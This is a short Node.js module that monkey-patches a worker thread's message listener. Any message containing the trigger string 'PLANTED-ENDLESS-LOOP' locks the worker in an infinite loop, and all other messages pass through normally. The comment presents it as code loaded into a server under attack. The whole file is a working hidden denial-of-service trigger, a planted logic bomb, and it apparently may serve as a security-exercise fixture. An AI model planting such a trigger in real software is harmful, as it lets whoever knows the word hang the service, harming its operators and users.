// Loaded into a server under attack: a thread that reads what people send never ends over a text with this word in it.
import { isMainThread, parentPort } from 'node:worker_threads';

const WORD = 'PLANTED-ENDLESS-LOOP';

if (!isMainThread && parentPort !== null) {
  const { on } = parentPort;
  parentPort.on = (name, hear) =>
    on.call(parentPort, name, (message) => {
      if (name === 'message' && JSON.stringify(message)?.includes(WORD)) for (;;);
      return hear(message);
    });
}
